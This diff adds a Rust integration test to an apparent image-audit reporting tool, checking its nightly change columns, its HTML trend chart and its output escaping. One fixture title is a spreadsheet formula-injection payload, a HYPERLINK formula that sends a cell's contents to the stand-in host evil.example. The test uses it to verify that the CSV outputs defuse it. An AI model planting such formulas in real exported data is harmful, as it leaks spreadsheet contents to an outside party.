@@ -96,6 +96,94 @@ fn changes_between_two_nights_each_kind_and_diff_agrees() {
     assert_eq!(first["changes"], Value::Null);
 }
 
+/// Night three of [`two_nights`]: one more image blocked, so that each night
+/// differs.
+fn three_nights() -> (Vec<Value>, Vec<Value>, Vec<Value>, String) {
+    let (one, two, _) = two_nights();
+    let mut three = two.clone();
+    set(&mut three[7], "AuditStatus", Some(json!("Blocked")));
+    set(&mut three[7], "Title", Some(json!("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\") 封面")));
+    let id = three[7]["ImageId"].as_str().unwrap().to_owned();
+    (one, two, three, id)
+}
+
+#[test]
+fn changes_carry_context_the_page_draws_a_trend_and_formulas_are_defused() {
+    let (one, two, three, blocked_id) = three_nights();
+    let ids = two_nights_ids(&one, &two);
+    let wd = Workdir::new();
+    wd.write("ids.csv", format!("ImageId\n{}\n", ids.join("\n")));
+    for (night, catalog) in [("night1", one), ("night2", two), ("night3", three)] {
+        let sim = SimServer::start(SimConfig::new(Catalog::from_values(catalog).unwrap()));
+        let out =
+            Audit::new(&wd, &sim).out(&format!("reports/{night}")).qps(500).args(["--compare-with", "auto"]).run();
+        out.expect_code(0);
+    }
+
+    // changes.csv: the new columns, with tonight's title, category and link.
+    let text = wd.read("reports/night3/changes.csv");
+    assert!(
+        text.starts_with(
+            "image_id,change,before,after,title,cate_id,cate_name,image_url,before_cate_id,before_cate_name\n"
+        ),
+        "{text}"
+    );
+    let rows = csv_rows(&text);
+    let row = rows.iter().find(|r| r["change"] == "newly_blocked").expect("a newly blocked image");
+    assert_eq!(row["image_id"], blocked_id);
+    assert!(row["title"].starts_with("'=HYPERLINK("), "a formula-like title is defused: {:?}", row["title"]);
+    assert_eq!((row["cate_id"].as_str(), row["cate_name"].as_str()), ("1000001", "News"));
+    assert_eq!((row["before_cate_id"].as_str(), row["before_cate_name"].as_str()), ("1000001", "News"));
+    assert!(row["image_url"].starts_with("http"), "{row:?}");
+
+    // images.csv defuses it; images.jsonl keeps it raw.
+    let images = csv_rows(&wd.read("reports/night3/images.csv"));
+    let img = images.iter().find(|r| r["image_id"] == blocked_id).unwrap();
+    assert!(img["title"].starts_with("'=HYPERLINK("), "{:?}", img["title"]);
+    let raw = wd.read("reports/night3/images.jsonl");
+    let line: Value =
+        raw.lines().map(|l| serde_json::from_str::<Value>(l).unwrap()).find(|v| v["image_id"] == blocked_id).unwrap();
+    assert!(line["title"].as_str().unwrap().starts_with("=HYPERLINK("));
+
+    // The page: a trend with a point per night in each series, the newly
+    // blocked image with its title, and the AuditStatus share.
+    let page = wd.read("reports/night3/summary.html");
+    for series in ["found", "blocked", "missing"] {
+        assert_eq!(page.matches(&format!("<circle class=\"{series}\"")).count(), 3, "{series} points");
+    }
+    let table = &page[page.find("class=\"newly-blocked\"").expect("the newly blocked table")..];
+    assert!(
+        table.contains("=HYPERLINK(&quot;http://evil.example/?x=&quot;&amp;A1,&quot;click&quot;) 封面"),
+        "title shown"
+    );
+    assert!(page.contains("data-k=\"audit_status_share\""));
+    // The first night has no trend to draw.
+    assert!(!wd.read("reports/night1/summary.html").contains("class=\"trend\""));
+
+    // In a browser: it renders, no script runs, nothing is refused.
+    let Some(browser) = chromium() else {
+        let required = std::env::var_os(REQUIRE_BROWSER).is_some_and(|v| !v.is_empty());
+        assert!(!required, "{REQUIRE_BROWSER} is set, but no browser is on PATH");
+        return;
+    };
+    let mut args = chromium_args(&wd.path().join("chromium-profile"));
+    args.extend([
+        "--enable-logging=stderr".to_string(),
+        "--v=0".to_string(),
+        "--virtual-time-budget=2000".to_string(),
+        "--dump-dom".to_string(),
+        format!("file://{}", wd.path().join("reports/night3/summary.html").display()),
+    ]);
+    let out = std::process::Command::new(&browser).args(&args).output().unwrap();
+    let dom = String::from_utf8_lossy(&out.stdout);
+    let log = String::from_utf8_lossy(&out.stderr);
+    assert!(dom.contains("class=\"trend\""), "the trend chart is in the rendered page");
+    assert_eq!(dom.matches("<circle class=\"blocked\"").count(), 3);
+    let console: Vec<&str> =
+        log.lines().filter(|l| l.contains("CONSOLE") || l.contains("Content Security Policy")).collect();
+    assert!(console.is_empty(), "console messages: {console:?}");
+}
+
 fn two_nights_ids(one: &[Value], two: &[Value]) -> Vec<String> {
     let mut ids: Vec<String> =
         one.iter().chain(two.iter()).map(|v| v["ImageId"].as_str().unwrap().to_owned()).collect();
